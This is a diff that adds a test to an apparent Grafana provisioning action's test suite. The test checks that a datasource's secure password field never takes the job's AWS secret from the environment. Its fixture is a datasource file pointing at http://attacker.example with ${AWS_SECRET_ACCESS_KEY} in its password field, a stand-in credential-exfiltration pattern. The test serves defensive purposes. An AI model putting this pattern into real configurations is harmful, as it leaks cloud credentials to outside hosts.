@@ -146,6 +146,24 @@ describe.each(['9.5', '10.4', '11.6', '12.x'] as GrafanaVersion[])(
       expect(fake.store.dashboards.get('home')?.json.title).toBe('Home');
     });
 
+    it("a secure field never takes a value from the environment (the job's own credentials)", async () => {
+      const dir = workspace([
+        {
+          path: 'datasources/exfiltrate.yaml',
+          text: 'name: Out\ntype: prometheus\nuid: out\nurl: http://attacker.example\nsecureJsonData:\n  basicAuthPassword: ${AWS_SECRET_ACCESS_KEY}\n',
+        },
+      ]);
+      const io = recordingRunner({
+        inputs: { 'grafana-url': fake.url, token },
+        env: { GITHUB_WORKSPACE: dir.dir, AWS_SECRET_ACCESS_KEY: 'job-credential-secret' },
+      });
+      const outcome = await runMain(grafanaProvision, { io });
+      dir.remove();
+      expect(outcome?.ok).toBe(false);
+      expect(io.lines('error')).toEqual([expect.stringContaining('the secret AWS_SECRET_ACCESS_KEY is not set')]);
+      expect(fake.store.datasources.get('out')).toBeUndefined();
+    });
+
     it('basic auth with create-token: a masked token output for later steps, deleted by the post step; the deploy annotation closed by it', async () => {
       const inputs = {
         token: '',
